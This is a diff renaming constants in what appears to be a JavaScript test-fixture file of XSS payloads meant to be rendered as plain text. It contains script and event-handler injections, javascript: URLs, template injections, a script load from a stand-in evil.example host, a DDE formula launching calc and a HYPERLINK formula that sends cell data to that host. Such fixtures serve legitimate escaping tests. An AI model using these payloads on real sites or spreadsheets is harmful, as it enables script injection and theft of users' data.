@@ -1,8 +1,8 @@
-const RUNS = 'alert(1)';
-const ELSEWHERE = 'https://evil.example';
+const ALERT = 'alert(1)';
+const EVIL_ORIGIN = 'https://evil.example';
 
-/** What breaks out of the context of a text: an attribute, a text element, a comment, a script. */
-const exits = [
+/** Prefixes that break out of the surrounding context: an attribute, a text element, a comment, a script. */
+const breakouts = [
   '',
   '">',
   "'>",
@@ -16,71 +16,71 @@ const exits = [
 ];
 
 const elements = [
-  `<script>${RUNS}</script>`,
-  `<ScRiPt>${RUNS}</sCrIpT>`,
-  `<script src=${ELSEWHERE}/a.js></script>`,
-  `<img src=x onerror=${RUNS}>`,
-  `<img/src=x/onerror=${RUNS}>`,
-  `<svg onload=${RUNS}>`,
-  `<svg><script>${RUNS}</script></svg>`,
-  `<svg><animate onbegin=${RUNS} attributeName=x dur=1s>`,
-  `<math><mtext><img src=x onerror=${RUNS}></mtext></math>`,
-  `<details open ontoggle=${RUNS}>`,
-  `<input autofocus onfocus=${RUNS}>`,
-  `<select autofocus onfocus=${RUNS}>`,
-  `<video><source onerror=${RUNS}></video>`,
-  `<iframe srcdoc="<script>parent.${RUNS}</script>"></iframe>`,
-  `<iframe src="javascript:parent.${RUNS}"></iframe>`,
-  `<object data="javascript:${RUNS}"></object>`,
-  `<link rel=stylesheet href=x onerror=${RUNS}>`,
-  `<style onload=${RUNS}></style>`,
+  `<script>${ALERT}</script>`,
+  `<ScRiPt>${ALERT}</sCrIpT>`,
+  `<script src=${EVIL_ORIGIN}/a.js></script>`,
+  `<img src=x onerror=${ALERT}>`,
+  `<img/src=x/onerror=${ALERT}>`,
+  `<svg onload=${ALERT}>`,
+  `<svg><script>${ALERT}</script></svg>`,
+  `<svg><animate onbegin=${ALERT} attributeName=x dur=1s>`,
+  `<math><mtext><img src=x onerror=${ALERT}></mtext></math>`,
+  `<details open ontoggle=${ALERT}>`,
+  `<input autofocus onfocus=${ALERT}>`,
+  `<select autofocus onfocus=${ALERT}>`,
+  `<video><source onerror=${ALERT}></video>`,
+  `<iframe srcdoc="<script>parent.${ALERT}</script>"></iframe>`,
+  `<iframe src="javascript:parent.${ALERT}"></iframe>`,
+  `<object data="javascript:${ALERT}"></object>`,
+  `<link rel=stylesheet href=x onerror=${ALERT}>`,
+  `<style onload=${ALERT}></style>`,
 ];
 
 const attributes = [
-  `" onmouseover=${RUNS} x="`,
-  `' autofocus onfocus=${RUNS} x='`,
-  `" style="animation-name:x" onanimationstart="${RUNS}`,
-  `x onerror=${RUNS}`,
+  `" onmouseover=${ALERT} x="`,
+  `' autofocus onfocus=${ALERT} x='`,
+  `" style="animation-name:x" onanimationstart="${ALERT}`,
+  `x onerror=${ALERT}`,
 ];
 
 const addresses = [
-  `javascript:${RUNS}`,
-  `JaVaScRiPt:${RUNS}`,
-  `java\tscript:${RUNS}`,
-  ` javascript:${RUNS}`,
-  `javascript&colon;${RUNS}`,
-  `javascript://example.com/%0a${RUNS}`,
-  `data:text/html,<script>${RUNS}</script>`,
+  `javascript:${ALERT}`,
+  `JaVaScRiPt:${ALERT}`,
+  `java\tscript:${ALERT}`,
+  ` javascript:${ALERT}`,
+  `javascript&colon;${ALERT}`,
+  `javascript://example.com/%0a${ALERT}`,
+  `data:text/html,<script>${ALERT}</script>`,
   `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
-  `vbscript:${RUNS}`,
+  `vbscript:${ALERT}`,
   '//evil.example/',
   '/\\evil.example/',
 ];
 
 const templates = [
-  `{{constructor.constructor('${RUNS}')()}}`,
-  `\u0024{${RUNS}}`,
-  `#{${RUNS}}`,
-  `<%= ${RUNS} %>`,
-  `[[${RUNS}]]`,
+  `{{constructor.constructor('${ALERT}')()}}`,
+  `\u0024{${ALERT}}`,
+  `#{${ALERT}}`,
+  `<%= ${ALERT} %>`,
+  `[[${ALERT}]]`,
   `{{7*7}}`,
-  `';${RUNS};//`,
-  `";${RUNS};//`,
-  `\\";${RUNS};//`,
-  `\u2028${RUNS}//`,
-  `<!--<script>${RUNS}`,
-  `\u003cimg src=x onerror=${RUNS}\u003e`,
-  `&lt;img src=x onerror=${RUNS}&gt;`,
-  `%3Cscript%3E${RUNS}%3C/script%3E`,
-  `<base href=${ELSEWHERE}/>`,
-  `<meta http-equiv=refresh content="0;url=javascript:${RUNS}">`,
-  `<form action="javascript:${RUNS}"><button autofocus>`,
+  `';${ALERT};//`,
+  `";${ALERT};//`,
+  `\\";${ALERT};//`,
+  `\u2028${ALERT}//`,
+  `<!--<script>${ALERT}`,
+  `\u003cimg src=x onerror=${ALERT}\u003e`,
+  `&lt;img src=x onerror=${ALERT}&gt;`,
+  `%3Cscript%3E${ALERT}%3C/script%3E`,
+  `<base href=${EVIL_ORIGIN}/>`,
+  `<meta http-equiv=refresh content="0;url=javascript:${ALERT}">`,
+  `<form action="javascript:${ALERT}"><button autofocus>`,
 ];
 
 /** Texts that a spreadsheet would evaluate. */
 export const formulas = [
   "=cmd|' /C calc'!A0",
-  `=HYPERLINK("${ELSEWHERE}?"&A1,"open")`,
+  `=HYPERLINK("${EVIL_ORIGIN}?"&A1,"open")`,
   '+1+1',
   '-1+1',
   '@SUM(1,1)',
@@ -93,7 +93,7 @@ export const formulas = [
 
 /** Everything that must be shown as plain text. */
 export const payloads = [
-  ...exits.flatMap((exit) => elements.map((element) => exit + element)),
+  ...breakouts.flatMap((exit) => elements.map((element) => exit + element)),
   ...attributes,
   ...addresses,
   ...templates,
